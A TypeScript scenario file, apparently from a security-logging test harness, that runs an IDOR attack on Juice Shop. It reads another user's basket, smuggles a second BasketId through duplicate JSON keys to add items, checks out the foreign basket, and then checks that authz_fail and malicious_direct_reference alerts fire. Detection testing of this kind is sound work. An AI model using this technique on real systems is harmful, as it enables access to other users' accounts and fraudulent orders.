import { jsonOf } from '../http';
import { AttackFailed, check, count, type TargetScenario } from '../scenario';
import { ADMIN, JIM, alertCheck, login } from './juice';

export const basketIdor: TargetScenario = {
  id: 'basket-idor',
  title: "Another user's basket (IDOR)",
  a09: 'Access-control failures are not logged with the actor, so nobody learns who reached for what',
  cwe: 'CWE-778 (Insufficient Logging); the access-control flaw itself is CWE-639',
  attack: `As ${JIM.email}: read basket ${ADMIN.basketId} (${ADMIN.email}'s), add an item to it with a duplicate BasketId key, and check it out.`,
  scope: 'target',
  async run(run) {
    const session = await login(run.http, JIM.email, JIM.password);
    if (session.token === undefined) throw new AttackFailed(`cannot log in as ${JIM.email} (${session.status})`);
    const auth = { Authorization: `Bearer ${session.token}` };
    const own = String(session.bid ?? JIM.basketId);
    const foreign = String(ADMIN.basketId);

    const read = await run.http.get(`/rest/basket/${foreign}`, auth);
    const owner = (jsonOf(read) as { data?: { UserId?: unknown } } | undefined)?.data?.UserId;
    run.note(`GET /rest/basket/${foreign} as ${JIM.email} -> ${read.status}${owner !== undefined ? ` (basket of user ${String(owner)})` : ''}`);

    // The check reads the first BasketId, the insert the last (duplicate JSON keys).
    let added = 0;
    const start = 4 + (parseInt(run.nonce.slice(0, 4), 16) % 6);
    for (let attempt = 0; attempt < 3 && added === 0; attempt++) {
      const product = ((start + attempt - 1) % 9) + 1;
      const body = `{"ProductId":${product},"BasketId":"${own}","quantity":1,"BasketId":"${foreign}"}`;
      const response = await run.http.request('POST', '/api/BasketItems', { headers: { ...auth, 'Content-Type': 'application/json' }, body });
      run.note(`POST /api/BasketItems ${body} -> ${response.status}`);
      if (response.status === 200) added = product;
    }
    const checkout = await run.http.request('POST', `/rest/basket/${foreign}/checkout`, { headers: auth });
    run.note(`POST /rest/basket/${foreign}/checkout -> ${checkout.status}${checkout.status === 200 ? ` (${JIM.email} placed an order on ${ADMIN.email}'s basket)` : ''}`);
    if (read.status !== 200 && added === 0 && checkout.status !== 200) throw new AttackFailed('the target refused every step: not the Juice Shop behaviour this scenario attacks');

    const view = await run.observe({ expectAlerts: ['authz_fail', 'malicious_direct_reference'] });
    const authz = view.ofType('authz_fail');
    const named = authz.filter((event) => event.who.userId === String(JIM.userId) || event.who.emailId !== undefined);
    const reference = view.ofType('malicious_direct_reference');
    return {
      checks: [
        check('events:authz_fail', 'each reach into the foreign basket is an authz_fail event naming the actor', named.length >= 2, authz.length === 0 ? 'no authz_fail event reached the collector' : `${count(authz.length, 'authz_fail event')}, ${named.length} naming the actor (user ${named[0]?.who.userId ?? '?'})`),
        check('events:malicious_direct_reference', 'the duplicate-key manipulation is a malicious_direct_reference event', reference.length >= 1, reference.length === 0 ? 'none' : `${count(reference.length, 'event')} (records ${view.recordIdsOf('malicious_direct_reference').join(', ')})`),
        alertCheck(view, 'authz_fail', 'an authz_fail alert keyed by the actor', (alert) => (/^(email|user):/.test(alert.key) ? undefined : `keyed by ${alert.key}, not the account`)),
        alertCheck(view, 'malicious_direct_reference', 'a malicious_direct_reference alert'),
      ],
      view,
    };
  },
};
